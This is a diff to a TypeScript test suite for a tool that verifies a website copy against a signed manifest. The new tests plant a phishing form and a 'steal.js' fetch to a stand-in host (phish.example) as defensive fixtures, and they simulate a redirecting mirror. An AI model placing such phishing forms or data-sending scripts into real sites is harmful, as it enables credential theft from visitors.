@@ -1,5 +1,6 @@
 import { execFile } from 'node:child_process';
 import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
@@ -134,7 +135,7 @@ describe('verify-site', () => {
       'changed: robots.txt (larger than the manifest says)',
     ]);
     expect(out).toMatch(
-      /^3 of \d+ files at http:\/\/127\.0\.0\.1:\d+\/ differ from the manifest signed with the key [0-9A-F]{40}\.$/m,
+      /^At http:\/\/127\.0\.0\.1:\d+\/, 3 of \d+ files differ from the manifest signed with the key [0-9A-F]{40}\.$/m,
     );
     expect(code).toBe(1);
   });
@@ -181,5 +182,33 @@ describe('verify-site', () => {
       /: missing: manifest\.json\.asc: without its signature, nothing says the manifest is the company's\. Nothing of this copy can be trusted\.\n$/,
     );
     expect(unsigned.code).toBe(1);
+  });
+
+  it('fails naming each page and script a folder holds that the manifest does not list', async () => {
+    await mkdir(path.join(site, 'account-check'), { recursive: true });
+    await writeFile(path.join(site, 'account-check/index.html'), '<form action="https://phish.example/">');
+    await writeFile(path.join(site, 'assets/steal.js'), 'fetch("https://phish.example/")');
+    const { code, out } = await verifySite(site);
+    expect(out.trim().split('\n')).toEqual([
+      'not in the manifest: account-check/index.html',
+      'not in the manifest: assets/steal.js',
+      `At ${site}, 2 files are not in the manifest signed with the key ${(await readSiteKey(keyRoot, keyFile)).getFingerprint().toUpperCase()}.`,
+    ]);
+    expect(code).toBe(1);
+  });
+
+  it('trusts nothing when the host sends each file on to another host', async () => {
+    // A mirror that answers every address with a redirect elsewhere serves that host's bytes, not its own.
+    const server = createServer((request, response) => {
+      response.writeHead(302, { location: `http://elsewhere.example${request.url}` }).end();
+    }).listen(0, '127.0.0.1');
+    await new Promise((resolve) => server.once('listening', resolve));
+    close = () => new Promise((resolve) => server.close(() => resolve()));
+    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
+    const { code, out } = await verifySite(base);
+    expect(out).toBe(
+      `${base}: could not be read: manifest.json (redirected off the copy, to http://elsewhere.example/manifest.json). Nothing of this copy can be trusted.\n`,
+    );
+    expect(code).toBe(1);
   });
 });
